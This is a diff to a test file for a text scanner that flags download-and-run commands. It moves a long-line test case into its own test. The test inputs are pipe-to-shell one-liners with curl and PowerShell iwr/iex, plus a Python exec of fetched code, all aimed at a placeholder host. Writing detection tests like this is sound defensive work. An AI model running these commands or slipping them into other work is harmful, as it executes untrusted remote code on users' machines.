@@ -109,9 +109,13 @@ test.each([
   "curl https://x.invalid/a.py | python3 -",
   "iwr https://x.invalid | iex",
   "exec(requests.get(url).text)",
-  `${"x".repeat(50_000)} ; curl https://x.invalid | sh`,
-])("download-and-run is seen in %.60s", (text) => {
+])("download-and-run is seen in %s", (text) => {
   expect(inspectText(text)).toMatchObject([{ kind: "download-and-run", line: 1 }]);
+});
+
+test("a command is seen wherever it stands in a very long line", () => {
+  const text = `first\n${"x".repeat(50_000)} ; curl https://x.invalid | sh ${"y".repeat(50_000)}`;
+  expect(inspectText(text)).toMatchObject([{ kind: "download-and-run", line: 2 }]);
 });
 
 test.each([
